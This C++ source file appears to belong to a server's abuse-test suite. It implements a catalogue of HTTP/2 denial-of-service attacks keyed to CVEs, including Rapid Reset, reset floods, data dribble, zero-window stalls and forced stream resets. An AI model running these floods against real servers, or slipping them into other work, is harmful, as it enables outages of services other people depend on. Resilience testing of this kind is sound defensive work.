// Attacks with calls that are begun: taken back, made to be reset, or read too slowly.
#include <string>

#include "tests/abuse/attack.h"
#include "tests/net/http2_bytes.h"

namespace flagfall::abuse {
namespace {

using std::chrono::milliseconds;

constexpr int kCallsOfABatch = 32;
constexpr std::uint32_t kLastStream = 0x7ffffffd;
// Settings with no room for any answer.
std::string NoWindow() { return Preface(Setting(kInitialWindowSize, 0)); }

// Sends what `frames_of` makes for one stream after the other.
template <typename FramesOf>
void ForEachStream(RawConnection& connection, FramesOf frames_of) {
  connection.Send(Preface());
  for (std::uint32_t stream = 1; stream < kLastStream;) {
    std::string frames;
    for (int i = 0; i < kCallsOfABatch; ++i, stream += 2) frames += frames_of(stream);
    if (!connection.Send(frames)) return;
    connection.Receive();
  }
}

// Each call is taken back at once, so that no limit of calls at once counts it.
void RapidReset(RawConnection& connection) {
  ForEachStream(connection, [](std::uint32_t stream) {
    constexpr std::uint32_t kCancel = 8;
    return CallHeaders(stream, kPlayPath) + Frame(kRstStream, stream, BigEndian(kCancel, 4));
  });
}

// Calls that are malformed, each of which the server has to reset; the resets are not read.
void ResetFlood(RawConnection& connection) {
  connection.Send(Preface());
  for (std::uint32_t stream = 1; stream < kLastStream; stream += 2) {
    const std::string fields = HpackLiteral(":method", "POST") + HpackLiteral("Upper-Case", "x");
    if (!connection.Send(Frame(kHeaders, stream, fields, kEndHeaders))) return;
  }
}

// The following make the server reset a call by itself that it has begun to serve, each by another error of a stream.
void ResetByWindowUpdateOfZero(RawConnection& connection) {
  ForEachStream(connection,
                [](std::uint32_t stream) { return CallHeaders(stream, kPlayPath) + WindowUpdate(stream, 0); });
}
void ResetByWindowTooWide(RawConnection& connection) {
  ForEachStream(connection, [](std::uint32_t stream) {
    return CallHeaders(stream, kPlayPath) + WindowUpdate(stream, kWidestWindow);
  });
}
void ResetByDataAfterTheEnd(RawConnection& connection) {
  ForEachStream(connection, [](std::uint32_t stream) {
    return CallHeaders(stream, kPlayPath, kEndStream) + Frame(kData, stream, "late");
  });
}
void ResetByHeadersAfterTheEnd(RawConnection& connection) {
  ForEachStream(connection, [](std::uint32_t stream) {
    return CallHeaders(stream, kPlayPath, kEndStream) + CallHeaders(stream, kPlayPath, kEndStream);
  });
}
void ResetByDependingOnItself(RawConnection& connection) {
  ForEachStream(connection, [](std::uint32_t stream) {
    return CallHeaders(stream, kPlayPath) + Frame(kPriority, stream, BigEndian(stream, 4) + "\x10");
  });
}
void ResetByPriorityOfWrongSize(RawConnection& connection) {
  ForEachStream(connection, [](std::uint32_t stream) {
    return CallHeaders(stream, kPlayPath) + Frame(kPriority, stream, BigEndian(0, 4));
  });
}

// Large answers that may be written by single bytes.
void DataDribble(RawConnection& connection) {
  connection.Send(NoWindow());
  const std::string request = GrpcMessage(
      "\x22\x16"
      "flagfall.v1.BotService");
  constexpr std::uint32_t kStreams = 4;
  for (std::uint32_t i = 0; i < kStreams; ++i) {
    connection.Send(CallHeaders(2 * i + 1, i % 2 == 0 ? kReflectionPath : kHealthCheckPath));
    connection.Send(Frame(kData, 2 * i + 1, i % 2 == 0 ? request : GrpcMessage("")));
  }
  while (connection.Receive()) {
    for (std::uint32_t i = 0; i < kStreams; ++i) connection.Send(WindowUpdate(2 * i + 1, 1));
    connection.Pause(milliseconds(1));
  }
}

// The windows of HTTP/2 stand open and nothing is read, so that answers pile up in the server.
void InternalDataBuffering(RawConnection& connection) {
  connection.Send(Preface(Setting(kInitialWindowSize, kWidestWindow)) + WindowUpdate(0, kWidestWindow - 65535));
  const std::string requests = Repeated(GrpcMessage("\x22\x16"
                                                    "flagfall.v1.BotService"),
                                        50);
  for (std::uint32_t stream = 1; stream < kLastStream; stream += 2) {
    if (!connection.Send(CallHeaders(stream, kReflectionPath) + LastData(stream, requests))) return;
    connection.Pause(milliseconds(5));
  }
}

// The window stays shut, and calls are taken back and begun again while their answers wait.
void WindowKeptShut(RawConnection& connection) {
  connection.Send(NoWindow());
  for (std::uint32_t stream = 1; stream < kLastStream; stream += 2) {
    if (!connection.Send(CallHeaders(stream, kHealthCheckPath) + LastData(stream, GrpcMessage("")))) return;
    connection.Pause(milliseconds(5));
  }
}

// An honest client but for the acknowledgements of settings and pings, which it never sends.
void NothingAcknowledged(RawConnection& connection) {
  connection.Send(Preface());
  for (std::uint32_t stream = 1; connection.Receive(); stream += 2) {
    connection.Send(CallHeaders(stream, kHealthCheckPath) + LastData(stream, GrpcMessage("")));
    connection.Pause(milliseconds(100));
  }
}

// DATA and HEADERS of streams whose numbers run backwards, or that the server would have to open.
void StreamNumbersBackwards(RawConnection& connection) {
  connection.Send(Preface());
  for (std::uint32_t stream = 20001; stream > 1; stream -= 2) {
    if (!connection.Send(CallHeaders(stream, kPlayPath))) return;
  }
}

}  // namespace

std::vector<Attack> StreamAttacks() {
  using Demand = Attack::Demand;
  return {
      {"RapidReset", "CVE-2023-44487", RapidReset},
      {"ResetFlood", "CVE-2019-9514", ResetFlood},
      {"ResetByWindowUpdateOfZero", "CVE-2025-8671", ResetByWindowUpdateOfZero},
      {"ResetByWindowTooWide", "CVE-2025-8671", ResetByWindowTooWide},
      {"ResetByDataAfterTheEnd", "CVE-2025-8671", ResetByDataAfterTheEnd},
      {"ResetByHeadersAfterTheEnd", "CVE-2025-8671", ResetByHeadersAfterTheEnd},
      {"ResetByDependingOnItself", "CVE-2025-8671", ResetByDependingOnItself},
      {"ResetByPriorityOfWrongSize", "CVE-2025-8671", ResetByPriorityOfWrongSize},
      {"DataDribble", "CVE-2019-9511", DataDribble, Demand::kNone},
      {"InternalDataBuffering", "CVE-2019-9517", InternalDataBuffering, Demand::kEnd},
      {"WindowKeptShut", "CVE-2019-9517", WindowKeptShut, Demand::kNone},
      {"NothingAcknowledged", "", NothingAcknowledged, Demand::kNone},
      {"StreamNumbersBackwards", "", StreamNumbersBackwards, Demand::kEnd},
  };
}

}  // namespace flagfall::abuse
